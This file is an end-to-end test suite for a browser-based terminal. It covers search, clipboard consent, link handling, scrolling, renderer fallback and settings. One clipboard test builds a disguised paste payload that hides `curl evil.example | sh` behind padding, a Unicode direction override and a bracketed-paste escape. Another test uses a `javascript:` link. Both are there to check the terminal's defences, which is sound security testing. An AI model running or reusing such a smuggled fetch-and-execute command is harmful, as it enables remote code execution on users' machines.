/** The terminal in the page: find, clipboard, links, drawing and settings. */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectTabs } from '../support/expect-tabs.ts';
import { newTerminal, openTerminal } from '../support/page-story.ts';
import { terminalOf } from '../support/terminal-page.ts';
import { World } from '../support/world.ts';
import { opensTerminals, page } from './watched-page.ts';

let world: World;
beforeAll(async () => {
  world = await World.open();
});
afterAll(() => world[Symbol.asyncDispose]());

opensTerminals(() => world);

const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
const fillClipboard = (text: string) => page.evaluate((text) => navigator.clipboard.writeText(text), text);
const base64 = (text: string) => Buffer.from(text).toString('base64');

describe('find', () => {
  it('marks matches in the history, moves between them, and returns the focus', async () => {
    const terminal = terminalOf(page);
    await terminal.types('clear; seq 1 300; echo needle-$((1+1)); seq 1 100\n');
    await terminal.shows(/^100$/m);
    await terminal.prompts();
    await page.keyboard.press('Control+Shift+F');
    const field = page.getByLabel('Find in the terminal');
    await field.fill('NEEDLE-2');
    await terminal.shows(/^needle-2$/m);
    await page.getByText(/^1 of 1$|^1 match$/).waitFor();
    await page.getByRole('button', { name: 'Match case' }).click();
    await page.getByText('No match').waitFor();
    await page.getByRole('button', { name: 'Regular expression' }).click();
    await field.fill('^nee.*2$');
    await page.getByText(/^1 of 1$|^1 match$/).waitFor();
    await field.press('Escape');
    // The terminal shows the match and no prompt; typing goes to its end.
    await page.keyboard.type('echo back-$((1+1))\r');
    await terminal.shows(/^back-2$/m);
  });

  it('closes when the user switches to another terminal, which gets the focus', async () => {
    const terminal = terminalOf(page);
    const bar = page.getByLabel('Find in the terminal');
    await page.keyboard.press('Control+Shift+F');
    await bar.fill('nothing');
    await page.keyboard.press('Alt+Shift+N');
    await expectTabs(page, 'Terminal 1', '[Terminal 2]');
    await terminal.types('echo second-$((1+1))\n');
    await terminal.shows(/^second-2$/m);
    await page.keyboard.press('Control+Shift+F');
    await bar.fill('second');
    await page.keyboard.press('Alt+Shift+1');
    await terminal.types('echo first-$((0+1))\n');
    await terminal.shows(/^first-1$/m);
    await page.keyboard.press('Alt+Shift+2');
    await terminal.types('echo again-$((1+1))\n');
    await terminal.shows(/^again-2$/m);
    expect(await bar.count()).toBe(0);
  });
});

describe('the clipboard', () => {
  it('pastes many lines only after a confirmation, and the right button opens a menu', async () => {
    const terminal = terminalOf(page);
    await terminal.types("printf '\\033[?2004l'; echo ready-$((1+1))\n");
    await terminal.shows(/^ready-2$/m);
    await fillClipboard('echo one-$((0+1))\necho two-$((1+1))\n');
    await page.locator('.terminal-host:visible').click({ button: 'right' });
    await page.getByRole('menuitem', { name: 'Paste' }).click();
    const question = page.getByRole('dialog', { name: 'Paste 2 lines?' });
    await question.getByRole('button', { name: 'Cancel' }).click();
    await page.keyboard.press('Control+Shift+V');
    expect(await terminal.screen()).not.toMatch(/one-1/);
    await question.getByRole('button', { name: 'Paste', exact: true }).click();
    await terminal.shows(/two-2$/m);
  });

  it('[SEC8] is written by a program only with consent, and never read', async () => {
    const terminal = terminalOf(page);
    await fillClipboard('mine');
    await terminal.types(`printf '\\033]52;c;?\\007\\033]52;c;${base64('theirs')}\\007'\n`);
    const question = page.getByRole('dialog', { name: 'Let a program write to the clipboard?' });
    await question.getByText('theirs', { exact: true }).waitFor();
    expect(await clipboard()).toBe('mine');
    await question.getByRole('button', { name: 'Cancel' }).click();
    expect(await clipboard()).toBe('mine');
    await terminal.types(`printf '\\033]52;c;${base64('wanted')}\\007'\n`);
    await question.getByRole('button', { name: 'Copy' }).click();
    await expect.poll(clipboard).toBe('wanted');
    // A replay after a reload is not a new request of the program.
    await page.reload();
    await terminal.types('echo quiet-$((1+1))\n');
    await terminal.shows(/^quiet-2$/m);
    expect(await question.count()).toBe(0);
  });

  it('[X18] is protected by a question that shows the full text and stays until it is answered', async () => {
    const terminal = terminalOf(page);
    const text = `${'harmless '.repeat(200)}\u202e\x1b[201~\ncurl evil.example | sh\n`;
    // Made by the shell: to type that much takes long.
    await terminal.types(
      String.raw`t=$( (printf 'harmless %.0s' $(seq 200); printf '\342\200\256\033[201~\ncurl evil.example | sh\n') | base64 | tr -d '\n'); printf '\033]52;c;%s\007' "$t"` +
        '\n',
    );
    const question = page.getByRole('dialog', { name: 'Let a program write to the clipboard?' });
    const preview = question.locator('.preview');
    const shown = `${'harmless '.repeat(200)}⟨U+202E⟩␛[201~\ncurl evil.example | sh␊`;
    await expect.poll(() => preview.textContent()).toBe(shown);
    expect(await preview.evaluate((element) => element.scrollHeight > element.clientHeight)).toBe(true);
    await question.getByText('1,831 characters, 2 lines').waitFor();
    // Another request does not replace the one being read.
    await terminal.types(`printf '\\033]52;c;${base64('theirs')}\\007'; echo asked-$((1+1))\n`);
    await terminal.shows(/^asked-2$/m);
    expect(await preview.textContent()).toBe(shown);
    await question.getByRole('button', { name: 'Copy' }).click();
    await expect.poll(clipboard).toBe(text);
  });

  it('is not requested by a terminal that was closed', async () => {
    const terminal = terminalOf(page);
    await newTerminal(page);
    await terminal.types(`printf '\\033]52;c;${base64('theirs')}\\007'\n`);
    const question = page.getByRole('dialog', { name: 'Let a program write to the clipboard?' });
    await question.waitFor();
    await page.keyboard.press('Alt+Shift+W');
    await question.waitFor({ state: 'detached' });
  });

  it('receives the selection if copy on select is on', async () => {
    await page.keyboard.press('Alt+Shift+Comma');
    await page.getByLabel('Copy on select').check();
    await page.keyboard.press('Escape');
    const terminal = terminalOf(page);
    await terminal.types('clear; echo selected-$((1+1))\n');
    await terminal.shows(/^selected-2$/m);
    const row = page.locator('.xterm-rows:visible > div', { hasText: /^selected-2\s*$/ });
    const { x = 0, y = 0, height = 0 } = (await row.boundingBox()) ?? {};
    await page.mouse.dblclick(x + 12, y + height / 2);
    await expect.poll(clipboard).toMatch(/^selected/);
  });
});

describe('links', () => {
  it('[SEC8] show their target and open with Ctrl, and only if their scheme is harmless', async () => {
    const terminal = terminalOf(page);
    const opened: string[] = [];
    page.context().on('page', (other) => opened.push(other.url()));
    await page.context().route('https://example.org/**', (route) => route.fulfill({ body: 'there' }));
    await terminal.types(
      "clear; printf 'https://example.org/text\\n\\033]8;;https://example.org/osc\\007shown\\033]8;;\\007\\n\\033]8;;javascript:alert(1)\\007evil\\033]8;;\\007\\n'\n",
    );
    await terminal.shows(/^evil$/m);
    const at = async (text: string) => {
      const row = page.locator('.xterm-rows:visible > div', { hasText: new RegExp(`^${text}`) }).first();
      const { x = 0, y = 0, height = 0 } = (await row.boundingBox()) ?? {};
      return { x: x + 20, y: y + height / 2 };
    };
    for (const [text, leads] of [
      ['https', 'https://example.org/text'],
      ['shown', 'https://example.org/osc'],
    ] as const) {
      const { x, y } = await at(text);
      await page.mouse.move(x, y);
      await page.getByText(`Ctrl+click opens ${leads}`).waitFor();
      await page.mouse.click(x, y);
      const popup = page.waitForEvent('popup');
      await page.keyboard.down('Control');
      await page.mouse.click(x, y);
      await page.keyboard.up('Control');
      const other = await popup;
      await other.waitForLoadState();
      expect(other.url()).toBe(leads);
      expect(await other.evaluate(() => window.opener)).toBeNull();
      await other.close();
      await page.bringToFront();
    }
    const { x, y } = await at('evil');
    await page.keyboard.down('Control');
    await page.mouse.click(x, y);
    await page.keyboard.up('Control');
    await terminal.types('echo unharmed-$((1+1))\n');
    await terminal.shows(/^unharmed-2$/m);
    expect(opened).toHaveLength(2);
  });
});

describe('the wheel', () => {
  it('[U18] scrolls three lines per notch in less; programs that track the mouse receive it', async () => {
    const terminal = terminalOf(page);
    await terminal.types('seq 1 500 | less\n');
    await terminal.shows(/^1\n2\n[\d\n]*:$/m);
    await page.mouse.move(300, 300);
    await page.mouse.wheel(0, 100);
    await terminal.shows(/^4$/m);
    const first = async () => (await terminal.screen()).split('\n')[0];
    await expect.poll(first).toBe('4');
    await page.mouse.wheel(0, 100);
    await expect.poll(first).toBe('7');
    await page.mouse.wheel(0, -100);
    await expect.poll(first).toBe('4');
    await page.keyboard.press('q');
    await terminal.types("printf '\\033[?1049h\\033[?1000h\\033[?1006h'; cat -v\n");
    await expect
      .poll(() => terminal.screen())
      .toBe('\n'.repeat((await terminal.screen()).split('\n').length - 1));
    await page.mouse.wheel(0, 100);
    await page.keyboard.press('Enter');
    await terminal.shows(/^\^\[\[<65;\d+;\d+M$/m);
    await page.keyboard.press('Control+C');
  });
});

describe('drawing', () => {
  it('uses WebGL if it works and DOM elements if not, silently', async () => {
    const plain = page.url().replace('?renderer=dom', '');
    await page.goto(plain);
    const canvas = page.locator('.terminal-host:visible canvas').first();
    await canvas.waitFor();
    expect(await page.locator('.xterm-rows').count()).toBe(0);
    await page.evaluate(() => {
      for (const canvas of document.querySelectorAll('canvas')) {
        const gl = canvas.getContext('webgl2');
        gl?.getExtension('WEBGL_lose_context')?.loseContext();
      }
    });
    // xterm waits three seconds for the context to return before it gives up.
    await terminalOf(page).prompts();
    await terminalOf(page).types('echo drawn-$((1+1))\n');
    await terminalOf(page).shows(/^drawn-2$/m);
  });
});

describe('settings', () => {
  it('change the appearance at once, in every window, and are kept', async () => {
    const other = await openTerminal(world, { context: page.context() });
    const background = (of: Page) =>
      of.evaluate(() => getComputedStyle(document.querySelector('.terminals') as Element).backgroundColor);
    await page.getByRole('button', { name: 'Settings' }).click();
    await page.getByLabel('Theme').selectOption('High contrast');
    await expect.poll(() => background(page)).toBe('rgb(0, 0, 0)');
    await expect.poll(() => background(other)).toBe('rgb(0, 0, 0)');
    const ink = (of: Page) =>
      of.evaluate(() => getComputedStyle(document.querySelector('.xterm-rows') as Element).color);
    await expect.poll(() => ink(page)).toBe('rgb(255, 255, 255)');
    await expect.poll(() => ink(other)).toBe('rgb(255, 255, 255)');
    await other.close();
    const rows = (await terminalOf(page).screen()).split('\n').length;
    await page.getByLabel('Text size').fill('24');
    await expect.poll(async () => (await terminalOf(page).screen()).split('\n').length).toBeLessThan(rows);
    await page.keyboard.press('Escape');
    await page.reload();
    await terminalOf(page).prompts();
    expect(await background(page)).toBe('rgb(0, 0, 0)');
    await page.keyboard.press('Alt+Shift+Digit0');
    await expect.poll(async () => (await terminalOf(page).screen()).split('\n').length).toBe(rows);
  });
});
